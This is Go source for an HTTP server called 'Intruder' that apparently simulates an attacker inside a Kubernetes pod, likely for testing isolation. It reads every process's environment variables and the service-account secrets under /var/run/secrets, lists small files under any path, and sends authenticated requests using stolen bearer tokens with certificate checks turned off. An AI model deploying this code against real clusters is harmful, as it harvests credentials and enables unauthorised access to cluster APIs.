// Intruder looks around in a pod as an attacker who runs code in it would, and tells what it found over HTTP:
//
//	GET /files?path=/var/run               every small file under a path, with what it says
//	GET /processes                         every process, with its environment and the files of its own root that matter
//	GET /fetch?url=…[&bearer=…|&token-file=…][&body=…][&seconds=5][&until=…]
//	                                       the status, headers and lines of a reply, whoever's certificate it has
//
// It takes the first free port from 8080 on: containers of a pod share its addresses. Arguments mean nothing to it.
package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"log"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"
)

const (
	firstPort = 8080
	ports     = 10
	smallFile = 64 << 10
	longLine  = 4 << 20
)

// Where nothing is stored: the kernel's own trees.
var kernel = []string{"/proc", "/sys", "/dev"}

// File is one that could be read.
type File struct {
	Path string `json:"path"`
	Text string `json:"text"`
}

// Process is one that can be seen.
type Process struct {
	ID          string `json:"id"`
	Command     string `json:"command"`
	Environment string `json:"environment"` // empty where it cannot be read
	Files       []File `json:"files"`
}

// Answer is a reply as far as it came; Status is 0 where there was none.
type Answer struct {
	Status  int               `json:"status"`
	Headers map[string]string `json:"headers"`
	Lines   []string          `json:"lines"`
	Error   string            `json:"error"`
}

func main() {
	show := func(path string, found func(url.Values) any) {
		http.HandleFunc(path, func(writer http.ResponseWriter, request *http.Request) {
			writer.Header().Set("Content-Type", "application/json")
			if err := json.NewEncoder(writer).Encode(found(request.URL.Query())); err != nil {
				log.Print(err)
			}
		})
	}
	show("/files", func(query url.Values) any { return files(query.Get("path")) })
	show("/processes", func(url.Values) any { return processes() })
	show("/fetch", func(query url.Values) any { return fetch(query) })
	listener, err := listen()
	if err != nil {
		log.Fatal(err)
	}
	log.Print("listening on ", listener.Addr())
	log.Fatal(http.Serve(listener, nil))
}

func listen() (net.Listener, error) {
	var failures []error
	for port := firstPort; port < firstPort+ports; port++ {
		listener, err := net.Listen("tcp", fmt.Sprintf(":%d", port))
		if err == nil {
			return listener, nil
		}
		failures = append(failures, err)
	}
	return nil, errors.Join(failures...)
}

// files reads what it can under a path; what it cannot is passed over.
func files(under string) []File {
	found := []File{}
	_ = filepath.WalkDir(under, func(path string, entry fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if entry.IsDir() && slices.Contains(kernel, path) {
			return filepath.SkipDir
		}
		info, err := entry.Info()
		if err != nil || !info.Mode().IsRegular() || info.Size() > smallFile {
			return nil
		}
		if text, err := os.ReadFile(path); err == nil {
			found = append(found, File{Path: path, Text: string(text)})
		}
		return nil
	})
	return found
}

// processes looks into every process of this container's process namespace.
func processes() []Process {
	found := []Process{}
	entries, _ := os.ReadDir("/proc")
	for _, entry := range entries {
		if _, err := strconv.Atoi(entry.Name()); err != nil {
			continue
		}
		folder := "/proc/" + entry.Name()
		words := func(file string) string {
			text, _ := os.ReadFile(folder + "/" + file)
			return strings.ReplaceAll(string(text), "\x00", "\n")
		}
		process := Process{ID: entry.Name(), Command: words("cmdline"), Environment: words("environ"), Files: []File{}}
		for _, path := range []string{"/var/run/secrets", "/var/run/pillion"} {
			process.Files = append(process.Files, files(folder+"/root"+path)...)
		}
		found = append(found, process)
	}
	return found
}

// fetch sends one request and reads its reply: to the end, for so many seconds, or until each of the awaited texts
// was in some line.
func fetch(query url.Values) Answer {
	seconds, err := strconv.Atoi(query.Get("seconds"))
	if err != nil {
		seconds = 5
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(seconds)*time.Second)
	defer cancel()
	answer := Answer{Headers: map[string]string{}, Lines: []string{}}
	request, err := requestOf(ctx, query)
	if err != nil {
		answer.Error = err.Error()
		return answer
	}
	// An attacker does not mind whose certificate it is.
	transport := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, ForceAttemptHTTP2: true}
	defer transport.CloseIdleConnections()
	// Redirects are answers like any other.
	reply, err := transport.RoundTrip(request)
	if err != nil {
		answer.Error = err.Error()
		return answer
	}
	defer reply.Body.Close()
	answer.Status = reply.StatusCode
	for name := range reply.Header {
		answer.Headers[strings.ToLower(name)] = reply.Header.Get(name)
	}
	awaited := slices.Clone(query["until"])
	lines := bufio.NewScanner(reply.Body)
	lines.Buffer(nil, longLine)
	for lines.Scan() {
		answer.Lines = append(answer.Lines, lines.Text())
		awaited = slices.DeleteFunc(awaited, func(text string) bool { return strings.Contains(lines.Text(), text) })
		if len(query["until"]) > 0 && len(awaited) == 0 {
			break
		}
	}
	return answer
}

func requestOf(ctx context.Context, query url.Values) (*http.Request, error) {
	method, body := http.MethodGet, query.Get("body")
	if body != "" {
		method = http.MethodPost
	}
	request, err := http.NewRequestWithContext(ctx, method, query.Get("url"), strings.NewReader(body))
	if err != nil {
		return nil, err
	}
	bearer := query.Get("bearer")
	if path := query.Get("token-file"); path != "" {
		text, err := os.ReadFile(path)
		if err != nil {
			return nil, err
		}
		bearer = strings.TrimSpace(string(text))
	}
	if bearer != "" {
		request.Header.Set("Authorization", "Bearer "+bearer)
	}
	if body != "" {
		request.Header.Set("Content-Type", "application/json")
	}
	return request, nil
}
